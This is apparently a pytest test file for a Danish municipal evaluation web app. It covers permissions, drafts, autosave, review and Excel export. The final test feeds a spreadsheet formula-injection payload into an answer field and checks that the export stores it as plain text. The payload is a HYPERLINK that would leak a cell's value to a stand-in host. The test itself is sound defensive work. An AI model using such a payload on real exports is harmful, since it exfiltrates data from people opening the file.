"""Pages: who may open them, drafts that survive errors and expired sessions, the export, query counts."""
from datetime import date
from decimal import Decimal
from io import BytesIO

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from accounts import roles
from evaluations import services
from evaluations.models import ANSWER_FIELDS, Evaluation, EvaluationStatus
from tests.factories import InitiativeFactory, UserFactory

from .factories import COMPLETE_ANSWERS, ClosureReportFactory

pytestmark = pytest.mark.django_db
ALL_ROLES = [None, *roles.ROLES]
USERS = {roles.COORDINATOR, roles.ADMIN_REPORTER}


@pytest.mark.parametrize("role", ALL_ROLES)
@pytest.mark.parametrize("name", ["index", "round_detail", "round_export", "evaluation_detail", "closure_list",
                                  "closure_create", "monitoring_list", "round_create"])
def test_permission_matrix(client, open_round, buf_evaluation, user_of_role, role, name):
    args = {"round_detail": [open_round.pk], "round_export": [open_round.pk],
            "evaluation_detail": [buf_evaluation.pk]}.get(name, [])
    user = user_of_role(role)
    if user:
        client.force_login(user)
    response = client.get(reverse(f"evaluations:{name}", args=args))
    if role is None:
        assert response.status_code == 302 and response["Location"].startswith(reverse("login"))
    elif name == "round_create":
        assert response.status_code == (200 if role == roles.COORDINATOR else 403)
    elif role in USERS:
        assert response.status_code == 200
    else:
        assert response.status_code == 403


def test_reporter_sees_only_own_administrations_evaluations(client, open_round, reporter):
    client.force_login(reporter)
    response = client.get(reverse("evaluations:round_detail", args=[open_round.pk]))
    buf = open_round.evaluations.filter(administration__code="BUF").count()
    assert len(response.context["rows"]) == buf == 41
    sof_ev = open_round.evaluations.filter(administration__code="SOF").first()
    assert client.get(reverse("evaluations:evaluation_detail", args=[sof_ev.pk])).status_code == 404
    assert client.get(reverse("evaluations:evaluation_edit", args=[sof_ev.pk])).status_code == 404


def test_coordinator_cannot_edit_and_is_sent_to_the_read_only_page(client, buf_evaluation, coordinator):
    client.force_login(coordinator)
    response = client.post(reverse("evaluations:evaluation_edit", args=[buf_evaluation.pk]), {"purpose": "x"})
    assert response.status_code == 302 and response["Location"].endswith(f"/evaluations/{buf_evaluation.pk}/")
    buf_evaluation.refresh_from_db()
    assert buf_evaluation.purpose == "" and buf_evaluation.status == EvaluationStatus.NOT_STARTED


def test_the_draft_survives_a_validation_error_on_submit(client, buf_evaluation, reporter):
    client.force_login(reporter)
    url = reverse("evaluations:evaluation_edit", args=[buf_evaluation.pk])
    typed = {"purpose": "Mentorer til unge", "budget_tdkk": "mange penge", "effects": "", "submit": "1"}
    response = client.post(url, typed)
    assert response.status_code == 400
    form = response.context["form"]
    assert "effects" in form.errors and "budget_tdkk" in form.errors and "purpose" not in form.errors
    html = response.content.decode()
    assert 'value="mange penge"' in html and "Mentorer til unge" in html
    buf_evaluation.refresh_from_db()
    assert buf_evaluation.status == EvaluationStatus.DRAFT
    assert buf_evaluation.purpose == "Mentorer til unge"
    assert buf_evaluation.unsaved_input == {"budget_tdkk": "mange penge"}
    # coming back later shows what was typed, including the text that did not parse
    html = client.get(url).content.decode()
    assert 'value="mange penge"' in html and "Mentorer til unge" in html


def test_submit_and_read_only_afterwards(client, buf_evaluation, reporter):
    client.force_login(reporter)
    url = reverse("evaluations:evaluation_edit", args=[buf_evaluation.pk])
    response = client.post(url, {**COMPLETE_ANSWERS, "submit": "1"})
    assert response.status_code == 302
    buf_evaluation.refresh_from_db()
    assert buf_evaluation.status == EvaluationStatus.SUBMITTED
    assert buf_evaluation.budget_tdkk == Decimal("1250.5")
    response = client.post(url, {**COMPLETE_ANSWERS, "purpose": "ændret", "save": "1"})
    assert response.status_code == 302 and "/edit/" not in response["Location"]
    buf_evaluation.refresh_from_db()
    assert buf_evaluation.purpose == COMPLETE_ANSWERS["purpose"]
    autosave = client.post(reverse("evaluations:evaluation_autosave", args=[buf_evaluation.pk]), {"purpose": "x"})
    assert autosave.status_code == 403


def test_autosave_saves_the_draft(client, buf_evaluation, reporter):
    client.force_login(reporter)
    response = client.post(reverse("evaluations:evaluation_autosave", args=[buf_evaluation.pk]),
                           {"purpose": "Skrevet for et øjeblik siden"}, HTTP_HX_REQUEST="true")
    assert response.status_code == 200
    buf_evaluation.refresh_from_db()
    assert buf_evaluation.purpose == "Skrevet for et øjeblik siden"


def test_typed_answers_survive_an_expired_session(client, buf_evaluation, reporter):
    """The session expired while the reporter typed: the POST is kept and saved as a draft after logging in."""
    url = reverse("evaluations:evaluation_edit", args=[buf_evaluation.pk])
    autosave = client.post(reverse("evaluations:evaluation_autosave", args=[buf_evaluation.pk]), {"purpose": "x"})
    assert autosave.status_code == 401
    response = client.post(url, {"purpose": "Skrevet efter udløb", "reached_count": "45", "save": "1"})
    assert response.status_code == 302 and response["Location"].startswith(reverse("login"))
    buf_evaluation.refresh_from_db()
    assert buf_evaluation.purpose == ""
    login = client.post(reverse("login"), {"username": reporter.username, "password": "pw-for-tests-123",
                                           "next": url})
    assert login.status_code == 302 and login["Location"] == url
    response = client.get(url, follow=True)
    assert response.status_code == 200
    buf_evaluation.refresh_from_db()
    assert buf_evaluation.purpose == "Skrevet efter udløb" and buf_evaluation.reached_count == 45
    assert buf_evaluation.updated_by == reporter


def test_kept_input_is_not_applied_for_a_user_who_may_not_edit(client, buf_evaluation, copenhagen):
    url = reverse("evaluations:evaluation_edit", args=[buf_evaluation.pk])
    client.post(url, {"purpose": "Fremmed tekst", "save": "1"})
    sof_reporter = UserFactory(municipality=copenhagen.municipality, role=roles.ADMIN_REPORTER,
                               administration=copenhagen.municipality.administrations.get(code="SOF"))
    client.post(reverse("login"), {"username": sof_reporter.username, "password": "pw-for-tests-123"})
    assert client.get(url).status_code == 404
    buf_evaluation.refresh_from_db()
    assert buf_evaluation.purpose == ""


def test_coordinator_returns_with_comment_and_reporter_sees_it(client, buf_evaluation, reporter, coordinator):
    client.force_login(reporter)
    client.post(reverse("evaluations:evaluation_edit", args=[buf_evaluation.pk]), {**COMPLETE_ANSWERS, "submit": "1"})
    client.force_login(coordinator)
    review = reverse("evaluations:evaluation_review", args=[buf_evaluation.pk])
    assert client.post(review, {"comment": "", "return": "1"}).status_code == 400
    assert client.post(review, {"comment": "Angiv effekter med tal", "return": "1"}).status_code == 302
    buf_evaluation.refresh_from_db()
    assert buf_evaluation.status == EvaluationStatus.RETURNED
    client.force_login(reporter)
    html = client.get(reverse("evaluations:evaluation_edit", args=[buf_evaluation.pk])).content.decode()
    assert "Angiv effekter med tal" in html
    client.force_login(reporter)
    assert client.post(review, {"accept": "1"}).status_code == 403


def test_export_opens_with_openpyxl_and_holds_every_answer(client, open_round, buf_evaluation, reporter, coordinator):
    client.force_login(reporter)
    client.post(reverse("evaluations:evaluation_edit", args=[buf_evaluation.pk]), {**COMPLETE_ANSWERS, "submit": "1"})
    client.force_login(coordinator)
    response = client.get(reverse("evaluations:round_export", args=[open_round.pk]))
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    wb = load_workbook(BytesIO(response.content))
    ws = wb.worksheets[0]
    rows = list(ws.iter_rows(min_row=2, values_only=True))  # row 1 is the title
    assert len(rows) == 1 + 85
    assert len(rows[0]) == 6 + len(ANSWER_FIELDS)
    row = next(r for r in rows if r[1] == buf_evaluation.initiative.name)
    answers = dict(zip(ANSWER_FIELDS, row[6:], strict=True))
    ev = Evaluation.objects.get(pk=buf_evaluation.pk)
    for name in ANSWER_FIELDS:
        expected = getattr(ev, name)
        got = answers[name]
        if isinstance(expected, date):
            got = got.date()
        if isinstance(expected, Decimal):
            got = Decimal(str(got))
        assert got == (expected if expected != "" else None), name
    history = list(wb.worksheets[1].iter_rows(min_row=2, values_only=True))
    assert history[1][2] == "indsendt" and history[1][3] == 1
    # a reporter's export holds only their own administration
    client.force_login(reporter)
    wb = load_workbook(BytesIO(client.get(reverse("evaluations:round_export", args=[open_round.pk])).content))
    assert {r[0] for r in list(wb.worksheets[0].iter_rows(min_row=3, values_only=True))} == {"BUF"}


def test_round_page_shows_completion_per_administration_and_focus_area(client, open_round, buf_evaluation, reporter,
                                                                       coordinator):
    client.force_login(reporter)
    client.post(reverse("evaluations:evaluation_edit", args=[buf_evaluation.pk]), {**COMPLETE_ANSWERS, "submit": "1"})
    client.force_login(coordinator)
    response = client.get(reverse("evaluations:round_detail", args=[open_round.pk]))
    by_admin = {r["label"]: r for r in response.context["by_administration"]}
    assert by_admin["BUF"]["total"] == 41 and by_admin["BUF"]["done"] == 1
    assert sum(r["total"] for r in by_admin.values()) == 85
    assert by_admin["SOF"]["done"] == 0
    fa_totals = {r["label"]: r["total"] for r in response.context["by_focus_area"]}
    assert len(fa_totals) >= 6
    response = client.get(reverse("evaluations:round_detail", args=[open_round.pk]), {"status": "submitted"})
    assert [ev.pk for ev in response.context["rows"]] == [buf_evaluation.pk]


def test_coordinator_opens_a_round_in_the_browser_form(client, copenhagen, coordinator):
    client.force_login(coordinator)
    url = reverse("evaluations:round_create")
    bad = client.post(url, {"year": "20x0", "deadline": "2011-03-01"})
    assert bad.status_code == 400 and 'value="20x0"' in bad.content.decode()
    response = client.post(url, {"year": "2010", "deadline": "2011-03-01", "title": "Selvevaluering 2010"})
    assert response.status_code == 302
    assert Evaluation.objects.filter(round__title="Selvevaluering 2010").count() == 85


def test_round_page_queries_do_not_grow_with_rows(client, open_round, coordinator, copenhagen,
                                                  django_assert_max_num_queries):
    client.force_login(coordinator)
    url = reverse("evaluations:round_detail", args=[open_round.pk])
    client.get(url)
    with django_assert_max_num_queries(20):
        assert client.get(url).status_code == 200
    for _ in range(20):
        ini = InitiativeFactory(programme=copenhagen, administration=copenhagen.municipality.administrations.get(
            code="BUF"))
        Evaluation.objects.create(round=open_round, initiative=ini, administration=ini.administration)
    with django_assert_max_num_queries(20):
        response = client.get(url)
    # One page of 100 (evaluations.views.ROUND_PAGE_SIZE); the count covers all 105.
    assert len(response.context["rows"]) == 100 and response.context["page"].paginator.count == 105


def test_closure_page_and_form(client, reporter, coordinator, copenhagen, django_assert_max_num_queries):
    client.force_login(reporter)
    bad = client.post(reverse("evaluations:closure_create"), {
        "administration": reporter.administration_id, "institution": "Klub X", "extent": "full",
        "closed_from": "2011-05-03", "closed_to": "2011-05-01", "services_affected": "Alt",
        "reason": "Uro", "actions_taken": "Dialog", "area_text": "Nørrebro"})
    assert bad.status_code == 400 and "Klub X" in bad.content.decode()
    ok = client.post(reverse("evaluations:closure_create"), {
        "administration": reporter.administration_id, "institution": "Klub X", "extent": "partial",
        "closed_from": "2011-05-03", "services_affected": "Aftenåbent", "reason": "Uro", "actions_taken": "Dialog",
        "area_text": "Nørrebro"})
    assert ok.status_code == 302
    client.force_login(coordinator)
    for _ in range(10):
        ClosureReportFactory(administration=reporter.administration, reported_by=reporter)
    with django_assert_max_num_queries(20):
        response = client.get(reverse("evaluations:closure_list"))
    assert len(response.context["closures"]) == 11
    goal, measurement, label = response.context["goals"][0]
    assert goal.number == 4 and measurement.status == "not_met"  # closures in 2011; the deadline (2013) has passed
    assert "Klub X" in response.content.decode()


def test_prioritisation_form_in_the_browser_form(client, copenhagen, coordinator, reporter):
    client.force_login(coordinator)
    response = client.post(reverse("evaluations:prioritisation_round_create"),
                           {"title": "Prioritering", "budget_year": "2010", "deadline": "2010-05-04"})
    assert response.status_code == 302
    pk = int(response["Location"].rstrip("/").split("/")[-1])
    client.force_login(reporter)
    url = reverse("evaluations:prioritisation_edit", args=[pk])
    form = client.get(url).context["form"]
    inis = form.initiatives
    data = {}
    for n, ini in enumerate(inis[:2]):
        data[f"ranking_{ini.pk}"] = "most"
        data[f"reason_{ini.pk}"] = f"Grund {n}"
    bad = client.post(url, data)
    assert bad.status_code == 400 and "Grund 1" in bad.content.decode()
    for n, ini in enumerate(inis[2:6]):
        data[f"ranking_{ini.pk}"] = "least" if n < 3 else "most"
        data[f"reason_{ini.pk}"] = f"Grund {n}"
    assert client.post(url, data).status_code == 302
    client.force_login(coordinator)
    page = client.get(reverse("evaluations:prioritisation_round_detail", args=[pk]))
    assert len(page.context["columns"]) == 1 and len(page.context["columns"][0]["most"]) == 3


def test_monitoring_report_form(client, reporter, coordinator, copenhagen):
    client.force_login(reporter)
    ini = copenhagen.initiatives.filter(administration=reporter.administration).first()
    url = reverse("evaluations:monitoring_list")
    bad = client.post(url, {"initiative": ini.pk, "reported_on": "2010-09-01", "progress": "Godt i gang"})
    assert bad.status_code == 400 and "Godt i gang" in bad.content.decode()
    ok = client.post(url, {"initiative": ini.pk, "reported_on": "2010-09-01", "progress": "Godt i gang",
                           "risks": "Personaleflugt", "anchoring": "I driften"})
    assert ok.status_code == 302
    client.force_login(coordinator)
    assert "Personaleflugt" in client.get(url).content.decode()
    assert client.post(url, {}).status_code == 403


def test_index_lists_a_reporters_open_evaluations(client, open_round, reporter):
    client.force_login(reporter)
    response = client.get(reverse("evaluations:index"))
    assert len(response.context["mine"]) == 41
    services.evaluation_round_open  # noqa: B018


@pytest.mark.parametrize(("typed", "stored", "shown"), [("1.250,5", "1250.5", "1250.5"), ("1250,5", "1250.5", "1250.5"),
                                                         ("1250.5", "1250.5", "1250.5"), ("300", "300", "300")])
def test_amounts_accept_the_danish_decimal_comma(client, buf_evaluation, reporter, typed, stored, shown):
    client.force_login(reporter)
    url = reverse("evaluations:evaluation_edit", args=[buf_evaluation.pk])
    assert client.post(url, {"budget_tdkk": typed, "save": "1"}).status_code == 302
    buf_evaluation.refresh_from_db()
    assert buf_evaluation.budget_tdkk == Decimal(stored) and buf_evaluation.unsaved_input == {}
    assert f'value="{shown}"' in client.get(url).content.decode()


def test_every_submitted_version_can_be_read_again(client, buf_evaluation, reporter, coordinator):
    client.force_login(reporter)
    url = reverse("evaluations:evaluation_edit", args=[buf_evaluation.pk])
    client.post(url, {**COMPLETE_ANSWERS, "effects": "Første udgave", "submit": "1"})
    services.evaluation_review(evaluation=buf_evaluation, user=coordinator, action="return", comment="Mere tal")
    client.post(url, {**COMPLETE_ANSWERS, "effects": "Anden udgave", "submit": "1"})
    client.force_login(coordinator)
    response = client.get(reverse("evaluations:evaluation_detail", args=[buf_evaluation.pk]))
    events = response.context["events"]
    assert [e.kind for e in events] == ["submitted", "returned", "submitted"]
    first = dict(events[0].version_answers)
    assert first["Opnåede effekter"] == "Første udgave"
    assert dict(events[2].version_answers)["Opnåede effekter"] == "Anden udgave"
    html = response.content.decode()
    assert "Første udgave" in html and "Mere tal" in html


def test_prioritisation_page_names_the_administrations_that_have_not_ranked(client, copenhagen, coordinator):
    prio = services.prioritisation_round_open(programme=copenhagen, title="P", budget_year=2010,
                                              deadline=date(2010, 5, 4), user=coordinator)
    client.force_login(coordinator)
    response = client.get(reverse("evaluations:prioritisation_round_detail", args=[prio.pk]))
    assert response.context["missing"] == ["BIF", "BUF", "KFF", "SOF", "TMF", "ØKF"]


def test_pages_speak_danish_by_default_and_english_on_request(client, open_round, reporter):
    client.force_login(reporter)
    url = reverse("evaluations:evaluation_edit", args=[open_round.evaluations.filter(
        administration=reporter.administration).first().pk])
    assert "Gem kladde" in client.get(url).content.decode()
    client.post(reverse("set_language"), {"language": "en", "next": url})
    html = client.get(url).content.decode()
    assert "Save draft" in html and "Education/job" in html


def test_read_only_page_formats_dates_and_amounts_in_danish(client, buf_evaluation, reporter):
    client.force_login(reporter)
    client.post(reverse("evaluations:evaluation_edit", args=[buf_evaluation.pk]),
                {**COMPLETE_ANSWERS, "budget_tdkk": "1250,5", "submit": "1"})
    html = client.get(reverse("evaluations:evaluation_detail", args=[buf_evaluation.pk])).content.decode()
    assert "1.250,5" in html and "1. januar 2010" in html


def test_export_keeps_formula_like_answers_as_text_in_local_time_with_a_readable_layout(client, open_round,
                                                                                      buf_evaluation, reporter,
                                                                                      coordinator):
    attack = '=HYPERLINK("http://example.invalid/?leak="&C3,"Se resultater")'
    client.force_login(reporter)
    client.post(reverse("evaluations:evaluation_edit", args=[buf_evaluation.pk]),
                {**COMPLETE_ANSWERS, "effects": attack, "challenges": "=1+1", "methods": "-2+3", "submit": "1"})
    client.force_login(coordinator)
    wb = load_workbook(BytesIO(client.get(reverse("evaluations:round_export", args=[open_round.pk])).content))
    ws = wb.worksheets[0]
    header = [c.value for c in ws[2]]
    row = next(r for r in ws.iter_rows(min_row=3) if r[1].value == buf_evaluation.initiative.name)
    cells = dict(zip(header, row, strict=True))
    for text in (attack, "=1+1", "-2+3"):
        cell = next(c for c in row if c.value == text)
        assert cell.data_type == "s" and cell.quotePrefix, text
    assert not [c for r in ws.iter_rows() for c in r if c.data_type == "f"]
    ev = Evaluation.objects.get(pk=buf_evaluation.pk)
    submitted = cells["Indsendt"]
    local = timezone.localtime(ev.submitted_at).replace(tzinfo=None)  # not UTC with the zone dropped
    assert abs((submitted.value - local).total_seconds()) < 1
    assert submitted.number_format == "dd.mm.yyyy hh:mm"
    assert ws.freeze_panes == "C3" and ws.auto_filter.ref.startswith("A2:")
    assert str(open_round) in ws["A1"].value
    assert 8 <= ws.column_dimensions["B"].width <= 60 and ws.column_dimensions["A"].width < 22  # fitted, not 22
    assert wb.sheetnames == ["Svar", "Historik"]
